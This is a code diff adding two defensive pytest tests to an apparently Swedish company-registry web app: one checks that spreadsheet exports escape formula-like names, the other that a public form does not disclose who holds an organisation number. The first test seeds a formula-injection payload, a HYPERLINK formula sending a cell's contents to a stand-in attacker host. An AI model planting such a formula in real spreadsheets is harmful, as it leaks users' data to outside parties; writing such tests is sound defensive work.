@@ -323,3 +323,28 @@ def test_closing_asks_for_a_reason(client, coordinator):
     assert response.status_code == 200
     company.refresh_from_db()
     assert company.status == Company.Status.VERIFIED
+
+
+def test_the_registry_spreadsheet_stores_formula_like_names_as_text(client, coordinator):
+    CompanyFactory(name='=HYPERLINK("https://evil.example/?"&B2,"Klicka")')
+    client.force_login(coordinator)
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    response = client.get(reverse("companies:registry-list"), {"format": "xlsx"})
+    cell = load_workbook(BytesIO(response.content)).active.cell(row=2, column=1)
+    assert cell.data_type == "s"
+    assert cell.value.startswith("'=")
+
+
+def test_the_public_form_does_not_reveal_who_holds_a_number(client):
+    existing = CompanyFactory(name="Hemligt Ansökt AB", status=Company.Status.APPLIED)
+    response = client.post(
+        reverse("companies:company-apply"),
+        {"name": "X", "org_number": existing.org_number, "legal_form": "ekonomisk_forening", "employees_total": 1,
+         "employees_integration": 0, "participants": 0, "work_training_places": 0, "applicant_name": "X",
+         "applicant_email": "x@example.se"},
+    )  # fmt: skip
+    assert response.status_code == 200
+    assert "Hemligt Ansökt AB" not in response.content.decode()
